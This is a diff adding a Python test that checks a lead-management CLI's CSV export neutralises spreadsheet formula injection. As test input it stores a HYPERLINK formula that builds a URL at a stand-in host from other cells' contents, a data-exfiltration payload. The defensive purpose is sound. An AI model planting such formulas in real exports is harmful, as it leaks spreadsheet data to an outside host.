@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import subprocess
 import sys
@@ -42,3 +44,14 @@ def test_override_scores_are_bounded_to_0_100(db_url: str, one_lead: Engine) -> 
         assert conn.scalar(select(func.count()).select_from(lead_override)) == 0
     done = atalaya(db_url, "leads", "override", "7", "--score", "100", "--reason", "by hand")
     assert done.returncode == 0, done.stderr
+
+
+def test_csv_export_neutralises_formulas(db_url: str, one_lead: Engine) -> None:
+    reason = '=HYPERLINK("http://x.example/?"&B2&C2, "open")'
+    done = atalaya(db_url, "leads", "override", "7", "--score", "50", "--reason", reason)
+    assert done.returncode == 0, done.stderr
+    exported = atalaya(db_url, "leads", "export", "--format", "csv")
+    assert exported.returncode == 0, exported.stderr
+    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
+    assert [r["override_reason"] for r in rows] == ["'" + reason]
+    assert rows[0]["networks"] == "bittorrent"
